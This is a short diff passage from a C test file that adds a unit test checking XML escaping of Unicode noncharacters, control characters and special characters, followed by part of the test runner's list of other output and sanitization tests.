+/* XML text holds only Char: noncharacters become U+FFFD (never dropped), specials entities. */
+static void t_xml_escape_chars(void)
+{
+	struct hp_buf out = HP_BUF_INIT(4096);
+
+	hp_xml_escape(&out, "a\xef\xbf\xbf b\xef\xbf\xbe c\xef\xb7\x90 d\xf0\x9f\xbf\xbe e\xf4\x8f\xbf\xbf "
+		      "<&>\"' \x01\xc2\x85 ok \xe2\x86\x92 \xf0\x9f\x98\x80");
+	T_STREQ(out.buf, "a\xef\xbf\xbd b\xef\xbf\xbd c\xef\xbf\xbd d\xef\xbf\xbd e\xef\xbf\xbd "
+		"&lt;&amp;&gt;&quot;&apos;  ok \xe2\x86\x92 \xf0\x9f\x98\x80");
+	hp_buf_release(&out);
+}
+
+T_MAIN(T(t_xml_escape_chars), T(t_next_steps_quoted), T(t_junit_and_json_at_2500_nodes), T(t_id_lines_then_evidence), T(t_command_line), T(t_text_header), T(t_text_partial_phases), T(t_node_sample), T(t_junit), T(t_junit_gate), T(t_junit_no_merging), T(t_junit_nonchars), T(t_diff_junit_escaped), T(t_text_exact), T(t_text_no_issues), T(t_text_explain_ids), T(t_not_checked), T(t_focus), T(t_text_empty_and_null_opts), T(t_text_pointer_forms),
        T(t_pointer_document_of_the_check),
        T(t_text_color), T(t_text_color_only_difference), T(t_sanitize_table), T(t_sanitize_appends),
        T(t_sanitize_any_bytes), T(t_evidence_cap), T(t_json), T(t_json_empty), T(t_worst),
